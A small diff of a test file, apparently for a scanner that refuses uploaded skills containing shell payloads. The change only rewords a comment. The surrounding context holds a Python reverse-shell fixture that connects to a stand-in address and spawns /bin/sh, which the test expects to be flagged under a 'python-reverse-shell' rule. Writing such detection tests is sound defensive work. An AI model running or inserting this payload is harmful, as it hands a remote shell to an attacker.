@@ -73,7 +73,7 @@ describe('an error of the scan', () => {
     const python =
       'import socket, os, pty\ns = socket.socket()\ns.connect(("192.0.2.1", 1))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")\n'
     const acceptable = await refused(sendSkill({ ...shells, 'z.py': python }), 422, 'invalid_skill')
-    // All of them: 5 of each of 6 files, and the one of z.py.
+    // All of them: 5 in each of 6 files, and the one in z.py.
     expect(acceptable.errors).toHaveLength(31)
     const first = acceptable.errors?.slice(0, 2)
     for (const rule of [RULE, 'python-reverse-shell'])
